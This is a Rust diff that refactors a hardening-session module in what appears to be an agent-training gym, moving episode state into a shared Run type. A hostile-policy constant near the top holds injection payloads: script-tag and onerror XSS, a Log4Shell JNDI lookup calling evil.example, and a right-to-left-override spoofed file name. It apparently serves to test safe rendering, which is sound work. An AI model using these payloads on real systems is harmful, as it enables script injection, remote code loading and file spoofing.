@@ -4,9 +4,10 @@
 //! Plain Rust, tested natively; the components only read it.
 
 use super::settings::{Decider, HardenSettings};
+use crate::play::run::{PageSession, Run, RunStats, Scored};
 use serde_json::Value;
-use ztgym::core::eval::trajectory_line;
-use ztgym::core::{Agent, Environment, Step};
+use ztgym::core::Environment;
+use ztgym::core::{Agent, Recorded};
 use ztgym::harden::agents::{builtin, Reviewer, REVIEWER_MAX_BREAKAGE};
 use ztgym::harden::env::{Candidate, Info, Observation};
 use ztgym::harden::metrics::{audit_records, Collector, Evaluation};
@@ -24,33 +25,13 @@ deny contains "<script>alert('reason')</script> ${jndi:ldap://evil.example/a}" i
 deny contains "<img src=x onerror=alert(1)> \u202Egpj.exe" if true
 "#;
 
-/// One cycle played: the observation proposed on, the proposal and its result.
-#[derive(Clone, Debug)]
-pub struct Record {
-    pub observation: Observation,
-    pub action: Action,
-    pub step: Step<Observation, Info>,
-}
-
-/// Totals over the episodes played since the settings last changed.
-#[derive(Clone, Copy, Debug, Default, PartialEq)]
-pub struct RunStats {
-    pub episodes: u64,
-    pub cycles: u64,
-}
+/// A hardening episode scores its return.
+impl Scored for HardenEnv {}
 
 /// One hardening run.
 pub struct Session {
     settings: HardenSettings,
-    env: HardenEnv,
-    agent: Option<Box<dyn Agent<HardenEnv>>>,
-    observation: Observation,
-    info: Info,
-    log: Vec<Record>,
-    /// The risk score at the start and after each cycle of the episode.
-    risks: Vec<f64>,
-    metrics: Collector,
-    stats: RunStats,
+    run: Run<HardenEnv>,
 }
 
 impl Session {
@@ -82,23 +63,9 @@ impl Session {
             other => other,
         };
         let scenario = Scenario::load(settings.scenario).map_err(|e| e.to_string())?;
-        let mut env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
-        let (observation, info) = env.reset(settings.seed, options(&settings));
-        let mut session = Session {
-            settings,
-            env,
-            agent,
-            observation,
-            info,
-            log: Vec::new(),
-            risks: Vec::new(),
-            metrics: Collector::default(),
-            stats: RunStats::default(),
-        };
-        session.risks.push(session.observation.risk_score);
-        if let Some(a) = session.agent.as_mut() {
-            a.reset(session.settings.seed);
-        }
+        let env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
+        let run = Run::new(env, agent, settings.seed, options(&settings), None);
+        let mut session = Session { settings, run };
         if session.settings.hostile {
             session.set_policy(HOSTILE_POLICY)?;
         } else if let Some(text) = session.settings.rego.clone() {
@@ -111,62 +78,47 @@ impl Session {
         &self.settings
     }
 
-    /// Starts the episode again with the same seed (the policy in force stays).
-    pub fn restart(&mut self) {
-        let (observation, info) = self.env.reset(self.settings.seed, options(&self.settings));
-        self.observation = observation;
-        self.info = info;
-        self.log.clear();
-        self.risks = vec![self.observation.risk_score];
-        self.metrics = Collector::default();
-        if let Some(a) = self.agent.as_mut() {
-            a.reset(self.settings.seed);
-        }
-    }
-
-    /// Starts a new episode with `seed`.
-    pub fn set_seed(&mut self, seed: u64) {
-        self.settings.seed = seed;
-        self.restart();
-    }
-
     /// Whether an agent proposes (not a person).
     pub fn automated(&self) -> bool {
-        self.agent.is_some()
+        self.run.automated()
     }
 
     pub fn done(&self) -> bool {
-        self.log.last().is_some_and(|r| r.step.done())
+        self.run.done()
     }
 
     /// The policy in force: its name and text.
     pub fn policy(&self) -> &Policy {
-        self.env.policy()
+        self.run.env().policy()
     }
 
     /// Puts a policy in force from the next decision on; the candidates on screen (the
     /// current proposals, on which no step was taken yet) are judged again by it. A policy
     /// that does not load, or has no `allow`, changes nothing and the error is returned.
     pub fn set_policy(&mut self, text: &str) -> Result<(), String> {
-        let name = self.env.policy().name().to_string();
+        let name = self.policy().name().to_string();
         let policy = Policy::load(&name, text).map_err(|e| e.to_string())?;
-        self.env.set_policy(policy).map_err(|e| e.to_string())?;
+        self.run
+            .env_mut()
+            .set_policy(policy)
+            .map_err(|e| e.to_string())?;
         // The link carries an edited policy (the hostile hook's stands for itself).
         self.settings.rego = (!self.settings.hostile
             && Scenario::builtin_policy(self.settings.scenario) != Some(text))
         .then(|| text.to_string());
-        let cycle = self.info.cycle.take();
-        let (observation, mut info) = self.env.look();
+        // The last cycle stays on screen; the candidates are judged again.
+        let cycle = self.run.info().cycle.clone();
+        let (observation, mut info) = self.run.env_mut().look();
         info.cycle = cycle;
-        self.observation = observation;
-        self.info = info;
+        self.run.show(observation, info);
         Ok(())
     }
 
     /// The input the gate sees for candidate `index` now.
     pub fn gate_input(&self, index: usize) -> Option<Value> {
-        let c = self.observation.candidates.get(index)?;
-        Some(self.env.gate_input(&c.action, self.observation.risk_score))
+        let observation = self.run.observation();
+        let c = observation.candidates.get(index)?;
+        Some(self.run.env().gate_input(&c.action, observation.risk_score))
     }
 
     fn check_person(&self, index: usize) -> Result<Action, String> {
@@ -179,7 +131,8 @@ impl Session {
         if self.done() {
             return Err("The episode is over: press Reset or New seed for another.".into());
         }
-        self.observation
+        self.run
+            .observation()
             .candidates
             .get(index)
             .map(|c| c.action.clone())
@@ -206,126 +159,92 @@ impl Session {
     }
 
     fn play(&mut self, action: Action) -> Result<(), String> {
-        let step = self.env.step(&action).map_err(|e| e.to_string())?;
-        self.record(action, step);
-        Ok(())
+        self.run.act(action)
     }
 
     /// One step of the agent; false when there is none or the episode is over.
     pub fn agent_step(&mut self) -> bool {
-        if self.done() {
-            return false;
-        }
-        let Some(agent) = self.agent.as_mut() else {
-            return false;
-        };
-        let action = agent.act(&self.observation, &self.info);
-        match self.env.step(&action) {
-            Ok(step) => {
-                self.record(action, step);
-                true
-            }
-            Err(_) => false,
-        }
+        self.run.agent_step()
     }
 
     /// Runs up to `max_steps` agent steps; with `keep_going`, a finished episode is followed by
     /// the next seed's. Returns the steps taken.
     pub fn run(&mut self, max_steps: usize, keep_going: bool) -> usize {
-        crate::play::playable::run_agent_steps(
-            self,
-            max_steps,
-            keep_going,
-            Self::done,
-            |s| s.set_seed(s.settings.seed.wrapping_add(1)),
-            Self::agent_step,
-        )
-    }
-
-    fn record(&mut self, action: Action, step: Step<Observation, Info>) {
-        self.stats.cycles += 1;
-        if step.done() {
-            self.stats.episodes += 1;
-        }
-        if let Some(c) = &step.info.cycle {
-            self.metrics.add(c, step.cost);
-        }
-        self.risks.push(step.observation.risk_score);
-        let observation = std::mem::replace(&mut self.observation, step.observation.clone());
-        self.info = step.info.clone();
-        self.log.push(Record {
-            observation,
-            action,
-            step,
-        });
+        PageSession::play(self, max_steps, keep_going)
     }
 
     /// The candidates on screen now (the next cycle's proposals).
     pub fn observation(&self) -> &Observation {
-        &self.observation
+        self.run.observation()
     }
 
     pub fn candidates(&self) -> &[Candidate] {
-        &self.observation.candidates
+        &self.run.observation().candidates
     }
 
     pub fn info(&self) -> &Info {
-        &self.info
+        self.run.info()
     }
 
-    pub fn log(&self) -> &[Record] {
-        &self.log
+    /// The episode's cycles so far.
+    pub fn log(&self) -> &[Recorded<HardenEnv>] {
+        &self.run.log().steps
     }
 
     pub fn stats(&self) -> RunStats {
-        self.stats
+        self.run.stats()
     }
 
     pub fn scenario(&self) -> &Scenario {
-        self.env.scenario()
+        self.run.env().scenario()
     }
 
     pub fn twin(&self) -> &ztgym::harden::twin::Twin {
-        self.env.twin()
+        self.run.env().twin()
     }
 
     /// The risk score at the start of the episode and after each cycle.
-    pub fn risks(&self) -> &[f64] {
-        &self.risks
+    pub fn risks(&self) -> Vec<f64> {
+        let first = self
+            .log()
+            .first()
+            .map_or(self.observation(), |r| &r.observation);
+        std::iter::once(first.risk_score)
+            .chain(self.log().iter().map(|r| r.step.observation.risk_score))
+            .collect()
     }
 
     /// Seed 001's evaluation over the episode's cycles so far.
     pub fn evaluation(&self) -> Evaluation {
-        self.metrics.finish()
+        let mut metrics = Collector::default();
+        for r in self.log() {
+            if let Some(c) = &r.step.info.cycle {
+                metrics.add(c, r.step.cost);
+            }
+        }
+        metrics.finish()
     }
 
     pub fn episode_return(&self) -> f64 {
-        self.env.totals().episode_return
+        self.run.env().totals().episode_return
     }
 
     pub fn episode_cost(&self) -> f64 {
-        self.env.totals().episode_cost
+        self.run.env().totals().episode_cost
     }
 
     /// The episode as `ztgym run` writes a trajectory: a JSON line per cycle.
     pub fn trajectory_jsonl(&self) -> String {
-        let mut out = String::new();
-        for (t, r) in self.log.iter().enumerate() {
-            out.push_str(&trajectory_line(
-                t as u32,
-                &r.observation,
-                &r.action,
-                &r.step,
-            ));
-            out.push('\n');
-        }
-        out
+        self.run.trajectory_jsonl()
     }
 
     /// The episode as the seed's six audit tables: a JSON line per row, `decision_id` from 1.
     pub fn audit_jsonl(&self) -> String {
         let mut out = String::new();
-        let cycles = self.log.iter().filter_map(|r| r.step.info.cycle.as_deref());
+        let cycles = self
+            .log()
+            .iter()
+            .filter_map(|r| r.step.info.cycle.as_deref());
         for (k, c) in cycles.enumerate() {
             for row in audit_records(k as u64 + 1, c) {
                 out.push_str(&row.to_string());
@@ -342,6 +261,8 @@ fn options(s: &HardenSettings) -> Options {
         recommend_only: s.recommend,
     }
 }
+
+crate::page_session!(Session, HardenEnv, HardenSettings);
 
 #[cfg(test)]
 mod tests {
